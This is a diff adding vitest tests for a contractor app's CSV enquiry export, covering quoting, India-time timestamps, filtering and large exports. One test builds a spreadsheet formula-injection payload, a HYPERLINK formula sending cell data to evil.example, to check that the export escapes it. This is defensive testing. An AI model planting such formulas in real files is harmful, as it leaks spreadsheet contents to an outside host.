@@ -1,0 +1,63 @@
+import { expect, test } from 'vitest';
+import { makeEnquiry } from '#tests/factories/enquiry.ts';
+import { signInContractor } from '#tests/factories/session.ts';
+import { createTestApp } from '#tests/helpers/test-app.ts';
+
+const { app, db } = await createTestApp();
+
+async function download(headers: Record<string, string>, query = '') {
+  const response = await app.inject({ url: `/api/v1/contractor/enquiries/export${query}`, headers });
+  return { status: response.statusCode, headers: response.headers, text: response.payload };
+}
+
+test('the inbox comes as CSV that a spreadsheet opens, newest first, with times of India', async () => {
+  const owner = await signInContractor(db);
+  await makeEnquiry(db, {
+    business_id: owner.id,
+    name: 'Meera "MK" Kulkarni',
+    message: 'Roof, 2 floors\nSoon',
+    status: 'replied',
+    created_at: '2026-01-05T20:00:00Z',
+    replied_at: '2026-01-05T20:45:00Z',
+  });
+  await makeEnquiry(db, { business_id: owner.id, name: 'Earlier', created_at: '2026-01-05T04:05:00Z' });
+  await makeEnquiry(db, { name: 'For another' });
+  const { status, headers, text } = await download(owner.headers);
+  expect(status).toBe(200);
+  expect(headers['content-type']).toBe('text/csv; charset=utf-8');
+  expect(headers['content-disposition']).toMatch(/^attachment; filename="enquiries-\d{4}-\d\d-\d\d\.csv"$/);
+  expect(text).toBe(
+    [
+      '\ufeffReceived (India time),Name,Phone,Email,Message,Status,Replied (India time)',
+      '2026-01-06 01:30,"Meera ""MK"" Kulkarni",9876543210,meera@example.in,"Roof, 2 floors\nSoon",replied,2026-01-06 02:15',
+      '2026-01-05 09:35,Earlier,9876543210,meera@example.in,Our roof leaks.,new,',
+      '',
+    ].join('\r\n'),
+  );
+  expect((await download(owner.headers, '?status=new&q=earl')).text.split('\r\n')).toHaveLength(3);
+});
+
+test.each(['=', '+', '-', '@', '\t', '\r'])('a text that begins with %j is no formula', async (character) => {
+  const owner = await signInContractor(db);
+  const formula = `${character}HYPERLINK("http://evil.example?"&A1)`;
+  await makeEnquiry(db, { business_id: owner.id, name: formula, message: formula });
+  const { text } = await download(owner.headers);
+  expect(text.split(`"'${formula.replaceAll('"', '""')}"`)).toHaveLength(3);
+});
+
+test('a large inbox comes whole, each enquiry once', async () => {
+  const owner = await signInContractor(db);
+  const rows = Array.from({ length: 1_203 }, (_, at) => ({
+    business_id: owner.id,
+    name: `Writer ${at}`,
+    phone_no: '9876543210',
+    email: 'meera@example.in',
+    message: 'Hello',
+    consented_at: new Date(),
+    created_at: '2026-01-05T04:05:00Z',
+  }));
+  await db.insertInto('enquiries').values(rows).execute();
+  const { text } = await download(owner.headers);
+  expect(new Set(text.match(/Writer \d+/g)).size).toBe(1_203);
+  expect(text.trimEnd().split('\r\n')).toHaveLength(1_204);
+});
